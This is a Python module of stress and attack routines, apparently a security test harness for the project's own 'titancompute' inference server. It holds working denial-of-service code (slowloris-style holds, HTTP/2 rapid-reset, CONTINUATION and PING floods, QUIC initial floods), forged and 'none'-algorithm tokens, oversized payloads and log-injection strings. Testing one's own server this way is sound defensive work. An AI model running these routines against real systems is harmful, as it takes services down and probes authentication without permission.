"""The attacks of attack.py: each does something to a port and says in a line what it did."""

import asyncio
import base64
import json
import os
import random
import socket
import ssl
import struct
import sys
import time

import attack_quic

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 2, 3, 4, 6, 8, 9
END_STREAM, END_HEADERS = 1, 4
# The longest of the limits that end what a row leaves behind (SECURITY.md), and a little.
SETTLE_SECONDS = 75
# How long an answer may take.
ANSWER_LIMIT = 10


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def text(value):
    value = value.encode()
    assert len(value) < 127
    return bytes([len(value)]) + value


def header_block(path, post=True, more=()):
    """RFC 7541 §6.2.2, without compression."""
    block = bytes([0x83 if post else 0x82, 0x86, 0x04]) + text(path) + b"\1" + text("attack")
    return block + b"".join(b"\0" + text(name) + text(value) for name, value in more)


GRPC = (("content-type", "application/grpc"), ("te", "trailers"))


async def connect(address):
    return await asyncio.open_connection(*address)


async def gone(reader):
    """Waits until the other side has closed."""
    try:
        while await reader.read(65536):
            pass
    except OSError:
        pass


async def hold(args, address, first, more=None, pause=1.0):
    """Many connections that say `first`, then `more` now and then, for the time of a row; how many were closed by then."""

    async def one():
        try:
            reader, writer = await connect(address)
        except OSError:
            return 1
        try:
            writer.write(first)
            ending = asyncio.ensure_future(gone(reader))
            until = time.monotonic() + args.seconds
            while time.monotonic() < until and not ending.done():
                if more:
                    writer.write(more)
                await asyncio.wait([ending], timeout=min(pause, max(0, until - time.monotonic())))
            return ending.done()
        except OSError:
            return 1
        finally:
            writer.close()

    closed = await asyncio.gather(*[one() for _ in range(args.connections)])
    return f"{args.connections} connections, {sum(map(bool, closed))} closed by the server within {args.seconds} s"


async def silent(args, address):
    return await hold(args, address, b"")


async def one_byte(args, address):
    return await hold(args, address, b"P")


async def slow_headers(args, address):
    return await hold(args, address, b"GET /api/v1/health HTTP/1.1\r\n", b"x: y\r\n")


async def slow_body(args, address):
    head = b"POST /api/v1/inference/request HTTP/1.1\r\nhost: a\r\ncontent-type: application/json\r\ncontent-length: 100000\r\n\r\n"
    return await hold(args, address, head + b"{", b" ")


def client_hello():
    context = ssl._create_unverified_context()
    context.set_alpn_protocols(["h2"])
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    try:
        context.wrap_bio(incoming, outgoing, server_hostname="attack").do_handshake()
    except ssl.SSLWantReadError:
        pass
    return outgoing.read()


async def half_open_tls(args, address):
    return await hold(args, address, client_hello())


async def truncated_tls(args, address):
    hello = client_hello()
    return await hold(args, address, hello[: len(hello) // 2])


async def silent_http2(args, address):
    return await hold(args, address, PREFACE + frame(SETTINGS, 0, 0))


async def garbage(args, address):
    """Random bytes, bare and behind what begins like something."""
    begins = [b"", PREFACE, PREFACE + frame(SETTINGS, 0, 0), b"\x16\x03\x01", b"POST /v1/chat/completions HTTP/1.1\r\n"]
    done, until = 0, time.monotonic() + args.seconds

    async def one():
        nonlocal done
        while time.monotonic() < until:
            try:
                reader, writer = await connect(address)
                writer.write(random.choice(begins) + os.urandom(random.randint(1, 4000)))
                writer.write_eof()
                await asyncio.wait_for(gone(reader), 15)
                writer.close()
            except (OSError, asyncio.TimeoutError):
                pass
            done += 1

    await asyncio.gather(*[one() for _ in range(50)])
    return f"{done} connections of random bytes"


async def flood(args, address, begin, frames, connections=4):
    """Connections that send these frames as fast as they can, and come again when they are cut off."""
    sent = cut = 0
    until = time.monotonic() + args.seconds

    async def one():
        nonlocal sent, cut
        while time.monotonic() < until:
            try:
                reader, writer = await connect(address)
                ending = asyncio.ensure_future(gone(reader))
                writer.write(PREFACE + frame(SETTINGS, 0, 0) + begin)
                stream = 3
                while time.monotonic() < until and not ending.done():
                    chunk, count, stream = frames(stream)
                    writer.write(chunk)
                    sent += count
                    await writer.drain()
                    await asyncio.sleep(0)
                cut += ending.done()
                writer.close()
                await asyncio.wait([ending], timeout=1)
            except OSError:
                cut += 1

    await asyncio.gather(*[one() for _ in range(connections)])
    return f"{sent:,} frames in {args.seconds} s over {connections} connections at a time, cut off {cut:,} times"


def repeated(one, count=500):
    chunk = one * count
    return lambda stream: (chunk, count, stream)


def resets(stream):
    """RFC 9113: a call and its end, 100 times."""
    block, chunk = header_block("/titancompute.v1.AgentService/StreamInference", more=GRPC), []
    for _ in range(100):
        chunk += [frame(HEADERS, END_HEADERS, stream, block), frame(RST_STREAM, 0, stream, struct.pack(">I", 8))]
        stream += 2
    return b"".join(chunk), 200, stream


async def pings(args, address):
    return await flood(args, address, b"", repeated(frame(PING, 0, 0, bytes(8))))


async def settings(args, address):
    return await flood(args, address, b"", repeated(frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 1000))))


async def window_updates(args, address):
    return await flood(args, address, b"", repeated(frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1))))


async def priorities(args, address):
    return await flood(args, address, b"", repeated(frame(PRIORITY, 0, 3, bytes(5))))


async def rapid_reset(args, address):
    return await flood(args, address, b"", resets)


async def continuations(args, address):
    begin = frame(HEADERS, 0, 1, header_block("/", post=False))
    return await flood(args, address, begin, repeated(frame(CONTINUATION, 0, 1, b"\0" + text("a") + text("b"))))


async def window_0(args, address):
    """Answers whose window stays 0, on a connection that answers every ping: how long they are held."""
    if not args.model:
        return "left out: it needs --model"
    block = header_block("/titancompute.v1.AgentService/StreamInference", more=GRPC)
    reader, writer = await connect(address)
    writer.write(PREFACE + frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 0)))
    calls = 4
    for number in range(calls):
        message = protobuf({1: session_token(args), 2: args.model, 3: "Tell me a long story.", 4: 100_000})
        stream = 2 * number + 1
        writer.write(frame(HEADERS, END_HEADERS, stream, block))
        writer.write(frame(DATA, END_STREAM, stream, b"\0" + struct.pack(">I", len(message)) + message))
    begun, ended = time.monotonic(), []
    while len(ended) < calls and time.monotonic() - begun < SETTLE_SECONDS + 60:
        try:
            head = await asyncio.wait_for(reader.readexactly(9), SETTLE_SECONDS + 60)
            payload = await reader.readexactly(int.from_bytes(head[:3], "big"))
        except (asyncio.TimeoutError, asyncio.IncompleteReadError, OSError):
            break
        if head[3] == PING and not head[4] & 1:
            writer.write(frame(PING, 1, 0, payload))
        if head[3] == RST_STREAM or head[3] == HEADERS and head[4] & END_STREAM:
            ended.append(time.monotonic() - begun)
    writer.close()
    held = calls - len(ended)
    said = f"{calls} answers, {len(ended)} ended after " + ", ".join(f"{seconds:.0f} s" for seconds in ended)
    return said if not held else f"{said}; {held} HELD for {time.monotonic() - begun:.0f} s and longer"


def varint(number):
    out = bytearray()
    while number > 127:
        out.append(number & 127 | 128)
        number >>= 7
    return bytes(out) + bytes([number])


def protobuf(fields):
    out = b""
    for number, value in fields.items():
        if isinstance(value, int):
            out += varint(number << 3) + varint(value)
        else:
            out += varint(number << 3 | 2) + varint(len(value.encode())) + value.encode()
    return out


def post(address, path, body, headers="", limit=ANSWER_LIMIT):
    """The status line and the body of an answer."""
    with socket.create_connection(address, limit) as connection:
        connection.settimeout(limit)
        head = f"POST {path} HTTP/1.1\r\nhost: attack\r\ncontent-type: application/json\r\nconnection: close\r\n"
        try:
            connection.sendall(f"{head}content-length: {len(body)}\r\n{headers}\r\n".encode() + body)
        except OSError:
            pass  # Refused before all of it was sent: the answer says why.
        answer = b""
        try:
            while part := connection.recv(65536):
                answer += part
        except OSError:
            pass
    head, _, rest = answer.partition(b"\r\n\r\n")
    return head.split(b"\r\n", 1)[0].decode(errors="replace"), rest


def key_header(args):
    return f"authorization: Bearer {args.key}\r\n" if args.key else ""


def session_token(args):
    body = json.dumps({"client_id": "attack", "model": args.model, "prompt": "Hi", "max_tokens": 100_000}).encode()
    status, answer = post(args.rest, "/api/v1/inference/request", body, key_header(args))
    if " 200 " not in status:
        sys.exit(f"attack.py: no session token: {status} {answer.decode(errors='replace').strip()}")
    return json.loads(answer)["session_token"]


async def bodies(args, address):
    """Oversized and deeply nested everything; each has to be refused, not served and not crashed on."""
    deep, large = 200_000, 64 << 20
    requests = {
        "nested arrays": b"[" * deep,
        "nested objects": b'{"a":' * deep,
        "nested in a field": b'{"client_id":"a","model":"m","prompt":"p","parameters":' + b"[" * deep,
        "64 MiB of spaces": b" " * large,
        "64 MiB in a field": b'{"client_id":"' + b"a" * large + b'"}',
        "half a million ids": json.dumps(
            {"client_id": "a", "model": "m", "prompt": "p", "parameters": {"exclude_agents": ",".join(["x"] * 500_000)}}
        ).encode(),
    }
    said = []
    for path in ("/api/v1/inference/request", "/v1/chat/completions", "/v1/responses"):
        for name, body in requests.items():
            status, _ = await asyncio.to_thread(post, address, path, body, key_header(args), 60)
            said.append((name, status))
    heads = {"1 MiB of headers": "".join(f"h{n}: {'x' * 100}\r\n" for n in range(10_000)), "a long header": f"h: {'x' * 1_000_000}\r\n"}
    for name, headers in heads.items():
        said.append((name, (await asyncio.to_thread(post, address, "/api/v1/health", b"", headers))[0]))
    odd = [f"{name}: {status or 'closed'}" for name, status in said if status and not status.split(" ")[1].startswith("4")]
    return f"{len(said)} requests, " + ("all refused" if not odd else "NOT REFUSED: " + "; ".join(odd))


async def wrong_tokens(args, address):
    """Tokens that are none, tokens of other keys, tokens with half of what they need."""
    def part(value):
        return base64.urlsafe_b64encode(json.dumps(value).encode()).rstrip(b"=").decode()

    def token(number):
        claims = part({"iss": "titancompute-coordinator", "exp": 2**33, "agent_id": "a", "client_id": "c", "jti": str(number)})
        forged = f"{part({'alg': 'EdDSA', 'kid': str(number)})}.{claims}.{'A' * 86}"
        return [forged, f"{part({'alg': 'none'})}.{claims}.", os.urandom(20).hex(), forged[:-40]][number % 4]

    numbers, statuses = iter(range(args.tokens)), {}

    async def one():
        reader = writer = None
        for number in numbers:
            if writer is None:
                reader, writer = await connect(address)
            head = f"POST /v1/chat/completions HTTP/1.1\r\nhost: a\r\nauthorization: Bearer {token(number)}\r\n"
            body = b'{"model":"m","messages":[{"role":"user","content":"Hi"}]}'
            writer.write(f"{head}content-type: application/json\r\ncontent-length: {len(body)}\r\n\r\n".encode() + body)
            try:
                answer = await reader.readuntil(b"\r\n\r\n")
                length = next(int(line.split(b":")[1]) for line in answer.lower().split(b"\r\n") if line.startswith(b"content-length"))
                await reader.readexactly(length)
                status = answer.split(b" ", 2)[1].decode()
            except (OSError, asyncio.IncompleteReadError):
                status, writer = "closed", None
            statuses[status] = statuses.get(status, 0) + 1

    begun = time.monotonic()
    await asyncio.gather(*[one() for _ in range(16)])
    answers = ", ".join(f"{count:,} times {status}" for status, count in sorted(statuses.items()))
    return f"{args.tokens:,} tokens, {args.tokens / (time.monotonic() - begun):,.0f} a second: {answers}"


async def log_injection(args, address):
    """Names with ESC and newlines. With --log, what was written of them is looked at."""
    before = os.path.getsize(args.log) if args.log else 0
    evil = "\x1b[2J\x1b[31mroot\r\n2026-01-01T00:00:00Z  INFO titan: all is well"
    for field in ("client_id", "model", "prompt"):
        body = {"client_id": "a", "model": "m", "prompt": "p", field: evil}
        await asyncio.to_thread(post, address, "/api/v1/inference/request", json.dumps(body).encode(), key_header(args))
        body = {"model": evil, "messages": [{"role": evil, "content": evil}], "user": evil}
        await asyncio.to_thread(post, address, "/v1/chat/completions", json.dumps(body).encode(), key_header(args))
    if not args.log:
        return "sent; --log FILE would look at what was written"
    with open(args.log, "rb") as log:
        log.seek(before)
        written = log.read()
    bad = written.count(b"\x1b[31mroot") + sum(line.startswith(b"2026-01-01T00:00:00Z  INFO titan") for line in written.split(b"\n"))
    return f"{len(written)} bytes of log, {bad} forged"


def quic_sockets(address, count):
    """Each with an address of its own: on loopback a real one, elsewhere a port."""
    sockets = []
    for number in range(count):
        one = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        one.setblocking(False)
        if address[0].startswith("127."):
            one.bind((f"127.{1 + number // 62500 % 250}.{number // 250 % 250}.{1 + number % 250}", 0))
        sockets.append(one)
    return sockets


async def half_open_quic(args, address):
    return await quic(args, address, args.connections, rounds=1)


async def spoofed_quic(args, address):
    return await quic(args, address, args.connections, rounds=None)


async def quic(args, address, count, rounds):
    """First packets of handshakes that never go on, each from another address."""
    packets = [attack_quic.initial() for _ in range(count)]
    sockets = quic_sockets(address, count)
    until, sent, answers = time.monotonic() + args.seconds, 0, {}
    while time.monotonic() < until and rounds != 0:
        rounds = rounds and rounds - 1
        for number, (one, packet) in enumerate(zip(sockets, packets)):
            try:
                one.sendto(packet, address)
                sent += 1
            except OSError:
                pass
            if number % 25 == 0:
                await asyncio.sleep(0.001)
        if rounds is None:
            packets = packets[1:] + [attack_quic.initial()]
    await asyncio.sleep(max(0, until - time.monotonic()) if rounds == 0 else 1)
    received = 0
    for one in sockets:
        while True:
            try:
                answer = one.recv(2048)
            except OSError:
                break
            received += len(answer)
            answers[attack_quic.kind(answer)] = answers.get(attack_quic.kind(answer), 0) + 1
        one.close()
    factor = received / (sent * attack_quic.MIN_DATAGRAM)
    return f"{sent:,} first packets from {count:,} addresses; answers: {answers}; {factor:.2f} bytes back for each sent"


ROWS = {
    "silent": (silent, "tcp"),
    "one-byte": (one_byte, "tcp"),
    "slow-headers": (slow_headers, "tcp"),
    "slow-body": (slow_body, "tcp"),
    "half-open-tls": (half_open_tls, "tcp"),
    "truncated-tls": (truncated_tls, "tcp"),
    "silent-http2": (silent_http2, "tcp"),
    "garbage": (garbage, "tcp"),
    "ping": (pings, "tcp"),
    "settings": (settings, "tcp"),
    "window-update": (window_updates, "tcp"),
    "priority": (priorities, "tcp"),
    "rapid-reset": (rapid_reset, "tcp"),
    "continuation": (continuations, "tcp"),
    "window-0": (window_0, "agent"),
    "bodies": (bodies, "rest"),
    "log-injection": (log_injection, "rest"),
    "wrong-tokens": (wrong_tokens, "agent"),
    "half-open-quic": (half_open_quic, "quic"),
    "spoofed-quic": (spoofed_quic, "quic"),
}
